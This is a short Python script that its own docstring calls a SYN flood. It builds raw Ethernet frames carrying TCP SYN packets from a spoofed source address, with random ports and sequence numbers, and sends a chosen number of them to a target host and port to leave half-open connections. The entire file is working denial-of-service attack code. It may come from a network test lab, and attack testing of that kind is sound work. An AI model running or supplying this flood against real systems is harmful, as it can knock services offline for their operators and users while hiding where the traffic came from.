#!/usr/bin/env python3
"""Sends COUNT TCP SYNs to DST:PORT from SRC (an address nobody answers for) with random source
ports and sequence numbers, as raw Ethernet frames on IFACE to DST_MAC: a SYN flood that leaves
half-open connections behind. Prints what it sent as JSON."""
import argparse
import json
import random
import socket
import struct

from frames import ipv4, mac_bytes, raw_port, tcp

ap = argparse.ArgumentParser()
ap.add_argument("--iface", required=True)
ap.add_argument("--dst-mac", required=True)
ap.add_argument("--src", required=True)
ap.add_argument("--dst", required=True)
ap.add_argument("--port", type=int, required=True)
ap.add_argument("--count", type=int, required=True)
args = ap.parse_args()


s, src_mac = raw_port(args.iface)
dst_mac = mac_bytes(args.dst_mac)
src, dst = socket.inet_aton(args.src), socket.inet_aton(args.dst)
rng = random.Random(7)
for i in range(args.count):
    syn = tcp(src, dst, rng.randrange(1024, 65535), args.port, rng.getrandbits(32), 0, 0x02,
              opts=struct.pack("!BBH", 2, 4, 1460), window=64240)
    s.send(dst_mac + src_mac + b"\x08\x00" + ipv4(6, src, dst, syn, ident=i))
print(json.dumps({"syns": args.count}), flush=True)
